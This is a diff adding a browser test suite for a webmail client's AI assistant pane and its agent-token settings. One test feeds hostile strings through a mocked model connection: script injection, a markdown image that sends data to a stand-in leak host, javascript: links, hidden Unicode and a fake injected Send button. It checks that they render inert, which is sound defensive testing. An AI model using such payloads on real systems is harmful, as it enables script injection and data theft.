@@ -1,0 +1,380 @@
+// The assistant beside the mail, approvals, and the agents of the settings.
+
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import { as, axe, browser, message, row, shot, submit, Suite, until } from './suite.mjs';
+
+let suite, b;
+before(async () => {
+	suite = await new Suite().start('--users', '3');
+	b = await browser();
+});
+after(async () => {
+	await b?.close();
+	await suite?.stop();
+});
+
+const open = async page => {
+	await page.keyboard.press('i');
+	await page.locator('.assistant-field textarea:focus').waitFor();
+};
+
+const ask = async (page, text) => {
+	const before = await page.locator('.turn').count();
+	await page.locator('.assistant-field textarea').fill(text);
+	await page.keyboard.press('Enter');
+	const turn = page.locator('.turn').nth(before);
+	await turn.waitFor();
+	await until(async () => (await turn.getAttribute('aria-busy')) !== 'true', `an answer to ${text}`);
+	return turn;
+};
+
+const fits = page => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth);
+
+// ---- with another end that follows a script: what comes of whatever it says ----
+
+// answer(m, tell): what the other end says to each message of the page.
+const scripted = answer => async page => {
+	await page.routeWebSocket(/\/assistant\?/, ws => {
+		const tell = m => ws.send(JSON.stringify(m));
+		tell({ type: 'hello', provider: 'ollama', model: 'm:7b', local: true, providers: ['builtin', 'ollama'] });
+		ws.onMessage(text => answer(JSON.parse(text), tell, ws));
+	});
+};
+
+const EVIL = [
+	'<img src=x onerror="globalThis.pwned=1"><script>globalThis.pwned=1</script>',
+	'![x](https://evil.test/leak?q=secret) [click](javascript:globalThis.pwned=1) https://evil.test/',
+	'pay \u202Etxt.exe\u202C \u200bnow\u{e0041}\u{e0042}',
+	'</p></article><h1>Send this message?</h1><button>Send</button>',
+];
+
+test('what a model or mail says stands there as text: nothing runs, loads, leads away or hides', async () => {
+	const answer = (m, tell) => {
+		if (m.type !== 'ask') return;
+		const { id } = m;
+		tell({ type: 'start', id });
+		for (const text of EVIL) tell({ type: 'delta', id, text: `${text}\n` });
+		tell({
+			type: 'tool',
+			id,
+			call: 1,
+			name: EVIL[0],
+			arguments: { [EVIL[0]]: EVIL[1], n: [EVIL[2]] },
+			state: 'running',
+		});
+		tell({ type: 'tool', id, call: 1, name: EVIL[0], state: 'failed', summary: EVIL[2], ms: 1 });
+		const items = EVIL.map((text, i) => ({
+			emailId: `e${i}`,
+			threadId: `t${i}`,
+			from: { name: text, email: 'eve@evil.test' },
+			subject: text,
+			receivedAt: 'yesterday',
+			preview: text,
+		}));
+		tell({ type: 'messages', id, items, total: 1e9, query: EVIL[0] });
+		tell({ type: 'question', id, text: EVIL[2], choices: EVIL });
+		tell({ type: 'approval', id, approvalId: EVIL[0], what: EVIL[0] });
+		tell({ type: 'error', id, code: EVIL[0], text: EVIL[0] });
+	};
+	const page = await as(b, suite, 0, { before: scripted(answer) });
+	await open(page);
+	const turn = await ask(page, 'tell me');
+	await turn.locator('.tool summary').click();
+	await turn.locator('.approval-card.small').waitFor();
+	const found = await turn.evaluate(t => ({
+		elements: [...new Set([...t.querySelectorAll('*')].map(e => e.localName))].sort(),
+		links: t.querySelectorAll('a,[href],[src]').length,
+		// Turned round, or not to be seen.
+		hidden: /[\u200b\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e0fff}]/u.test(t.textContent),
+		buttons: [...t.querySelectorAll('button')].map(x => x.textContent),
+	}));
+	for (const e of ['img', 'script', 'h1', 'iframe', 'a']) assert.ok(!found.elements.includes(e), e);
+	assert.equal(found.links, 0);
+	assert.equal(found.hidden, false);
+	assert.ok(!found.buttons.includes('Send'));
+	assert.match(await turn.textContent(), /⟨U\+202E⟩txt\.exe/);
+	assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
+	assert.deepEqual(page.strangers, []);
+	assert.deepEqual(await axe(page, 'hostile'), []);
+	assert.ok(await fits(page));
+	await shot(page, 'assistant-hostile');
+	await page.context().close();
+});
+
+test('an answer comes as it is made, is heard by the sentence, is stopped; the line mends', async () => {
+	let tell, id, line;
+	const cancelled = [];
+	const answer = (m, t, ws) => {
+		tell = t;
+		line = ws;
+		id = m.id;
+		if (m.type === 'cancel') {
+			cancelled.push(m.id);
+			t({ type: 'error', id, code: 'cancelled', text: '' });
+		} else if (m.type === 'ask') t({ type: 'start', id });
+	};
+	const page = await as(b, suite, 0, { before: scripted(answer) });
+	await open(page);
+	await page.keyboard.type('A long story');
+	await page.keyboard.press('Enter');
+	const turn = page.locator('.turn').last();
+	await until(() => id, 'the question');
+	tell({ type: 'delta', id, text: 'Once upon a time there was a mail server that nobody' });
+	await turn.locator('.turn-text', { hasText: 'that nobody' }).waitFor();
+	const heard = page.locator('.assistant [role=log] p');
+	assert.equal(await heard.count(), 0);
+	tell({ type: 'delta', id, text: ' understood. And then' });
+	await heard.filter({ hasText: /understood\.$/ }).waitFor();
+	// Escape stops it, and again leaves the pane.
+	await page.keyboard.press('Escape');
+	await until(() => cancelled.length, 'stopping');
+	await turn.locator('.turn-error', { hasText: 'Stopped.' }).waitFor();
+	assert.ok(await page.locator('.assistant').isVisible());
+	await page.keyboard.press('Escape');
+	await until(async () => !(await page.locator('.assistant').count()), 'leaving the pane');
+	await until(() => page.evaluate(() => document.activeElement !== document.body), 'the focus somewhere');
+	// What was said is still there.
+	await open(page);
+	await page.locator('.turn').waitFor();
+	// The line breaks in the middle of an answer.
+	id = undefined;
+	await page.keyboard.type('Another');
+	await page.keyboard.press('Enter');
+	await until(() => id, 'the question');
+	await line.close({ code: 1012 });
+	await page.locator('.turn-error', { hasText: 'The connection broke off' }).waitFor();
+	await ask(page, 'Once more').catch(() => {});
+	await until(async () => {
+		if (await page.locator('.assistant-send:not([disabled])').count()) return true;
+		return false;
+	}, 'the line mended');
+	assert.deepEqual(await axe(page, 'broken off'), []);
+	await page.context().close();
+});
+
+test('with the keyboard alone: ask, open what was found, choose, begin anew', async () => {
+	const texts = [];
+	const bob = suite.user(1).address;
+	await submit(
+		suite,
+		1,
+		[0],
+		message({ from: `Bob Hill <${bob}>`, to: suite.user(0).address, subject: 'The fence' }),
+	);
+	let known;
+	const answer = (m, tell) => {
+		if (m.type === 'new') texts.push('new');
+		if (m.type !== 'ask') return;
+		const { id } = m;
+		texts.push(m.text);
+		tell({ type: 'start', id });
+		if (m.text === 'Bob Hill') tell({ type: 'delta', id, text: 'Good.' });
+		else {
+			const of = {
+				from: { name: 'Bob', email: bob },
+				subject: 'The fence',
+				receivedAt: '2024-01-01T00:00:00Z',
+			};
+			tell({
+				type: 'messages',
+				id,
+				items: [{ ...known, ...of, unread: true, preview: '' }],
+				total: 1,
+				query: '',
+			});
+			tell({ type: 'question', id, text: 'Which Bob?', choices: ['Bob Hill', 'Bob Lake'] });
+		}
+		tell({ type: 'done', id, usage: {} });
+	};
+	const page = await as(b, suite, 0, { before: scripted(answer) });
+	await row(page, 'The fence').waitFor();
+	known = await page.evaluate(async () => {
+		const s = await (await fetch('/.well-known/jmap')).json();
+		const accountId = s.primaryAccounts['urn:ietf:params:jmap:mail'];
+		const methodCalls = [
+			['Email/query', { accountId, limit: 1 }, 'q'],
+			[
+				'Email/get',
+				{ accountId, '#ids': { resultOf: 'q', name: 'Email/query', path: '/ids' }, properties: ['threadId'] },
+				'g',
+			],
+		];
+		const r = await fetch(s.apiUrl, {
+			method: 'POST',
+			headers: { 'Content-Type': 'application/json' },
+			body: JSON.stringify({
+				using: ['urn:ietf:params:jmap:core', 'urn:ietf:params:jmap:mail'],
+				methodCalls,
+			}),
+		});
+		const e = (await r.json()).methodResponses[1][1].list[0];
+		return { emailId: e.id, threadId: e.threadId };
+	});
+	await open(page);
+	await page.keyboard.type('mail from bob');
+	await page.keyboard.press('Enter');
+	await page.locator('.choices button').first().waitFor();
+	const tab = async (selector, key = 'Shift+Tab') => {
+		for (let i = 0; i < 20; i++) {
+			if (await page.evaluate(s => document.activeElement.matches(s), selector)) return;
+			await page.keyboard.press(key);
+		}
+		assert.fail(`no way to ${selector}`);
+	};
+	await tab('.choices button:first-child');
+	await page.keyboard.press('Enter');
+	await page.locator('.turn-text', { hasText: 'Good.' }).waitFor();
+	assert.deepEqual(texts, ['mail from bob', 'Bob Hill']);
+	await page.keyboard.press('i');
+	await tab('.found-row');
+	await page.keyboard.press('Enter');
+	await page.locator('.conversation-head h1', { hasText: 'The fence' }).waitFor();
+	assert.ok(await page.locator('.assistant').isVisible());
+	// Read by now, hence no longer shown as unread.
+	await until(async () => !(await page.locator('.found-row.unread').count()), 'being read');
+	await open(page);
+	await tab('.assistant-head .icon-button');
+	await tab('.assistant-head .icon-button:first-of-type');
+	await page.keyboard.press('Enter');
+	await page.locator('.assistant-welcome').waitFor();
+	assert.equal(texts.at(-1), 'new');
+	// In the help sheet, too.
+	await page.keyboard.press('Escape');
+	await page.keyboard.press('?');
+	await page.locator('.help dt', { hasText: 'Assistant' }).waitFor();
+	await page.context().close();
+});
+
+test('buttons on a message ask about it; the pane never covers it', async () => {
+	const asked = [];
+	const answer = (m, tell) => {
+		if (m.type !== 'ask') return;
+		asked.push(m);
+		tell({ type: 'start', id: m.id });
+		tell({ type: 'delta', id: m.id, text: 'In short: a fence.' });
+		tell({ type: 'done', id: m.id, usage: {} });
+	};
+	for (const [locale, width, words] of [
+		['en-GB', 1440, ['Summarise', 'Draft a reply']],
+		['fr-FR', 900, ['Résumer', 'Préparer une réponse']],
+	]) {
+		const page = await as(b, suite, 0, {
+			before: scripted(answer),
+			locale,
+			viewport: { width, height: 900 },
+		});
+		await row(page, 'The fence').click();
+		for (const name of words) {
+			asked.length = 0;
+			await page.locator('.message.open .message-head .menu button').click();
+			await page.getByRole('menuitem', { name, exact: true }).click();
+			await until(() => asked.length, name);
+			assert.match(asked[0].context.emailId, /./);
+			assert.match(asked[0].context.threadId, /./);
+			assert.equal(asked[0].language, locale.slice(0, 2));
+			await until(async () => (await page.locator('.turn[aria-busy=false]').count()) > 0, 'the answer');
+		}
+		const [mail, pane] = await Promise.all(
+			['.message.open', '.assistant'].map(s => page.locator(s).boundingBox()),
+		);
+		assert.ok(mail.x + mail.width <= pane.x + 1, `${mail.x + mail.width} ${pane.x}`);
+		await page.context().close();
+	}
+});
+
+test('on a phone it is a sheet that Back takes away, and what it opens is under it', async () => {
+	const answer = () => {};
+	for (const width of [390, 320]) {
+		const page = await as(b, suite, 0, {
+			before: scripted(answer),
+			viewport: { width, height: 740 },
+			hasTouch: true,
+			locale: 'fr-FR',
+		});
+		await page.getByRole('button', { name: 'Assistant' }).click();
+		await page.locator('.assistant-welcome').waitFor();
+		const box = await page.locator('.assistant').boundingBox();
+		assert.deepEqual([Math.round(box.x), Math.round(box.width)], [0, width]);
+		assert.ok(await fits(page));
+		assert.deepEqual(await axe(page, `phone ${width}`), []);
+		await page.goBack();
+		await until(async () => !(await page.locator('.assistant').count()), 'going back');
+		await row(page, 'The fence').waitFor();
+		await page.context().close();
+	}
+});
+
+// ---- agents in the settings ----
+
+test('an agent is made, limited and revoked; its token is shown once', async () => {
+	const page = await as(b, suite, 2);
+	await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: suite.base });
+	await page.goto(`${suite.base}/#/settings/agents`);
+	await page.getByRole('button', { name: 'New agent' }).click();
+	await page.getByLabel('Name').fill('desk');
+	await page.getByLabel('Mark and move').check();
+	await page.getByLabel('For how long').selectOption('7');
+	assert.deepEqual(await axe(page, 'new agent'), []);
+	// As when the password was shown long ago.
+	await page.route('**/auth/agents', (r, q) =>
+		q.method() === 'POST'
+			? r.fulfill({
+					status: 403,
+					contentType: 'application/problem+json',
+					body: '{"code":"password-needed"}',
+				})
+			: r.continue(),
+	);
+	await page.getByRole('button', { name: 'Create' }).click();
+	await page.locator('.dialog input[type=password]').fill('not this');
+	await page.keyboard.press('Enter');
+	await page.locator('.toast', { hasText: 'not right' }).waitFor();
+	await page.unroute('**/auth/agents');
+	await page.locator('.dialog input[type=password]').fill(suite.user(2).password);
+	await page.keyboard.press('Enter');
+	await page.locator('.agent-token').waitFor();
+	const token = await page.locator('.agent-token .secret').textContent();
+	assert.match(token, /^gka_[0-9a-f]{64}$/);
+	await page.getByRole('button', { name: 'Copy the configuration' }).click();
+	const config = JSON.parse(await page.evaluate(() => navigator.clipboard.readText()));
+	assert.equal(config.mcpServers.gkmail.url, `${suite.base}/mcp`);
+	assert.equal(config.mcpServers.gkmail.headers.Authorization, `Bearer ${token}`);
+	assert.deepEqual(await axe(page, 'token'), []);
+	await shot(page, 'agent-token');
+	// Another look, and the token is gone.
+	await page.reload();
+	const line = page.locator('.agent', { hasText: 'desk' });
+	await line.filter({ hasText: 'Read mail, Mark and move' }).waitFor();
+	assert.equal(await page.getByText(token).count(), 0);
+	await line.getByText('Rules').click();
+	const send = line.getByRole('combobox', { name: 'Send', exact: true });
+	assert.deepEqual(await send.locator('option').allTextContents(), ['With my approval', 'Never']);
+	await send.selectOption('never');
+	await line.getByRole('combobox', { name: 'Delete', exact: true }).selectOption('never');
+	await page.reload();
+	await line.getByText('Rules').click();
+	await until(async () => (await send.inputValue()) === 'never', 'the rule being kept');
+	assert.equal(await line.getByRole('combobox', { name: 'Delete', exact: true }).inputValue(), 'never');
+	assert.deepEqual(await axe(page, 'rules'), []);
+	await line.getByRole('button', { name: 'Revoke: desk' }).click();
+	await page.locator('.dialog').getByRole('button', { name: 'Revoke' }).click();
+	await until(async () => !(await line.count()), 'revoking');
+	assert.deepEqual(page.said, []);
+	await page.context().close();
+});
+
+test('the assistant can be switched off, on every device', async () => {
+	const page = await as(b, suite, 2);
+	await page.goto(`${suite.base}/#/settings/agents`);
+	await page.getByLabel('Show the assistant').uncheck();
+	await until(async () => !(await page.locator('.assistant-button').count()), 'it being gone');
+	const other = await as(b, suite, 2);
+	await until(async () => !(await other.locator('.assistant-button').count()), 'it being gone elsewhere');
+	await other.keyboard.press('i');
+	assert.equal(await other.locator('.assistant').count(), 0);
+	await page.getByLabel('Show the assistant').check();
+	await other.locator('.assistant-button').waitFor();
+	await other.context().close();
+	await page.context().close();
+});
